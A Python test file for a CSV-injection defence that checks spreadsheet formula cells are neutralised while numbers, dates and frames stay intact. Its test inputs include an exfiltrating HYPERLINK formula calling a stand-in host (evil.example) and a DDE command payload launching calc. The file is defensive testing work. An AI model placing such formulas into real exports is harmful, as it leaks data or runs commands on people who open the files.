"""CSV injection (OWASP): landgov.io.safe_csv neutralises formula cells, keeps numbers."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from landgov.io.safe_csv import neutralise_cell, neutralise_frame, safe_writer, write_csv


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("Muhammad Aslam", "Muhammad Aslam"),
        ("a=b", "a=b"),
        ("محمد اسلم", "محمد اسلم"),
        ("", ""),
    ],
)  # fmt: skip
def test_text_cells(cell: str, written: str) -> None:
    assert neutralise_cell(cell) == written


@pytest.mark.parametrize(
    "number", [-2, -2.5, 0, 3, Decimal("-7.25"), np.int64(-4), np.float64(-0.5), True]
)
def test_numbers_stay_numbers(number: object) -> None:
    assert neutralise_cell(number) is number


def test_other_values_are_written_as_their_text() -> None:
    assert neutralise_cell(None) is None
    assert neutralise_cell(date(2024, 1, 5)) == "2024-01-05"
    assert neutralise_cell(Fraction(-1, 2)) == "'-1/2"  # not a Number in a spreadsheet


def test_writer_and_file(tmp_path: Path) -> None:
    path = tmp_path / "out" / "owners.csv"
    rows = [["=1+1", -2, "+92 300 1234567", 2.5], ["Bushra", 0, None, -1.25]]
    assert write_csv(path, ["name", "n", "phone", "x"], rows, bom=True) == 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig") == (
        "name,n,phone,x\n'=1+1,-2,'+92 300 1234567,2.5\nBushra,0,,-1.25\n"
    )
    assert [p.name for p in path.parent.iterdir()] == ["owners.csv"]  # no temp file left

    other = tmp_path / "writer.csv"
    with other.open("w", newline="", encoding="utf-8") as fh:
        writer = safe_writer(fh)
        writer.writerow(["@x", -3])
        writer.writerows([["-x", 4.0]])
    assert list(csv.reader(other.open(encoding="utf-8"))) == [["'@x", "-3"], ["'-x", "4.0"]]


def test_frame() -> None:
    frame = pd.DataFrame(
        {
            "name": ["=HYPERLINK(1)", "Aslam", None],
            "value": [-2, 3, 4],
            "ratio": [-0.5, 1.0, np.nan],
            "when": pd.to_datetime(["2024-01-01", "2024-01-02", None]),
            "=evil": ["-2+3", "x", "y"],
        }
    )
    out = neutralise_frame(frame)
    assert list(out.columns) == ["name", "value", "ratio", "when", "'=evil"]
    assert out["name"].tolist()[:2] == ["'=HYPERLINK(1)", "Aslam"]
    assert out["name"].isna().tolist() == [False, False, True]
    assert out["value"].tolist() == [-2, 3, 4] and out["value"].dtype == frame["value"].dtype
    assert out["ratio"].dtype == frame["ratio"].dtype
    assert out["when"].dtype == frame["when"].dtype
    assert out["'=evil"].tolist() == ["'-2+3", "x", "y"]
    assert frame["name"].tolist()[0] == "=HYPERLINK(1)"  # the original is untouched
    text = out.to_csv(index=False)
    assert text.splitlines()[1].startswith("'=HYPERLINK(1),-2,-0.5,2024-01-01,'-2+3")
